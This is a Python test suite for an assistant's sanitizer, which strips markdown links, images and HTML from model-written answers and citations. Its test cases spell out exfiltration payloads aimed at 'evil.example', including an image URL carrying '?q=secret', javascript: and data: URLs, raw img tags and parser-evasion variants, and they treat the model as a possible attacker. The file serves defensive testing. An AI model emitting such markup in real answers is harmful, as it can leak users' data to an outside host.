"""Whatever a model writes, no program that renders it loads an image, shows a link or reads HTML."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from assistant.citing.citation_stream import CitationStream
from assistant.citing.link_removal import without_links
from assistant.text.markers import Lexer
from assistant.types import Paper, Source
from tests.support.answers import active
from tests.support.each_row import each_row
from tests.support.running.steps import steps

SOURCES = [
    Source(1, Paper(id="p", title="Bytes", abstract="It reads bytes.", url="https://papers.example/p"))
]
EVIL = "http://evil.example/a"


def shown(written: str) -> str:
    return without_links(Lexer().feed(written, final=True))


@each_row(
    ("written", "kept"),
    [
        (f"See ![a chart]({EVIL}.png?q=secret).", "See ![a chart]."),
        (f"See [here]({EVIL} 'title').", "See [here]."),
        (f"See [here](<{EVIL}>).", "See [here]."),
        (f"See [here]({EVIL}(b)) now.", "See [here] now."),
        (f"[a]({EVIL})({EVIL})", "[a]"),
        (f"[`code`]({EVIL})", "[`code`]"),
        ("[a](//evil.example/x) [b](www.evil.example)", "[a] [b]"),
        ("[a](javascript:alert(1)) [b](data:text/html,x)", "[a] [b]"),
        ("[CLS](the first token) stays", "[CLS] (the first token) stays"),
        ("[a](page.html)", "[a] (page.html)"),
        (f"<{EVIL}>", f"\\<{EVIL}>"),
        ("a <img src=x> b", "a \\<img src=x> b"),
        ("p < 0.05 and a<5", "p < 0.05 and a<5"),
        ("| a<br>b | c<br/>d |", "| a<br>b | c<br/>d |"),
        ("`List<String>` and f(x)", "`List<String>` and f(x)"),
        ("$a<b$", "$a< b$"),
        ("Plain [CLS] (text): stays [as](", "Plain [CLS] (text): stays [as] ("),
        (f"A repository at {EVIL} stays.", f"A repository at {EVIL} stays."),
    ],
)
def test_links_are_taken_away_and_words_are_left(written: str, kept: str) -> None:
    assert shown(written) == kept
    assert active(shown(written)) == []


@each_row(
    "written",
    [
        f"[label]: {EVIL}\n\n[label] and ![label]",
        f"> [label]: {EVIL}\n\n[label]",
        f"- [a\nb]: {EVIL}\n\n[a b]",
        f"$![x]({EVIL})$ and \\(![x]({EVIL})\\)",
        f"$<img src={EVIL}>$",
        f"- a ` b\n- ![x]({EVIL}) `",
        f"- a ` b\n- <img src={EVIL}> `",
        f"| a | b |\n| - | - |\n| ` | ![x]({EVIL}) ` |",
        f"    ```\n[label]: {EVIL}\n\n[label] ![x]({EVIL})",
        f"> ```\n![x]({EVIL})",
        f"[x](&#104;ttp://evil.example) [y]({EVIL}\n)",
        f"[x](<{EVIL}\\>>) [z](<{EVIL})>)",
        f"[x]({'a' * 3000})",
        f"![x](http://{'a' * 3000})",
        f"\\\\[x]({EVIL}) \\\\<img src={EVIL}>",
    ],
)
def test_what_renderers_read_otherwise_than_we_do_is_no_way_around(written: str) -> None:
    assert active(written), "the attack itself must work"
    assert active(shown(written)) == []


_MARKS = [*"[]()!<>:`| a$\\\n", "```", "\n\n", "    ", "> ", "- ", "1. ", "~~~", "[1]", "x](", "[x]: ", "\\("]
_WORDS = [EVIL, "//e.example", "img src=x", "br", "/br", "<!--"]
FRAGMENTS = st.lists(st.sampled_from(_MARKS + _WORDS), max_size=25)


@given(FRAGMENTS)
def test_no_mixture_of_markup_is_a_link_an_image_or_html(pieces: list[str]) -> None:
    assert not {"image", "link_open"} & set(active(shown("".join(pieces))))


@given(FRAGMENTS)
def test_what_is_shown_does_not_depend_on_how_the_stream_was_cut(pieces: list[str]) -> None:
    def streamed(cuts: list[str]) -> str:
        stream = CitationStream(SOURCES)
        return "".join([*(stream.feed(piece) for piece in cuts), stream.close()])

    whole = "".join(pieces)
    assert streamed(pieces) == streamed([whole]) == streamed(list(whole))


def test_an_answer_with_citations_holds_no_way_out() -> None:
    stream = CitationStream(SOURCES)
    text = stream.feed(f"It reads bytes [1]({EVIL}(x)).\n\n[1]: {EVIL}\n\n![1][1]") + stream.close()
    assert text.startswith("It reads bytes [1].")
    assert active(text) == []


@each_row("piece", ["](", "[x](http:", "<", "[x](http://a)", "(", "[x](a b ", "<br"])
def test_what_a_hostile_model_repeats_is_as_much_work_as_it_is_long(piece: str) -> None:
    short, long = (piece * (size // len(piece)) for size in (5_000, 10_000))
    assert active(shown(long)) == []
    assert steps(lambda: shown(long)) < 3 * steps(lambda: shown(short))
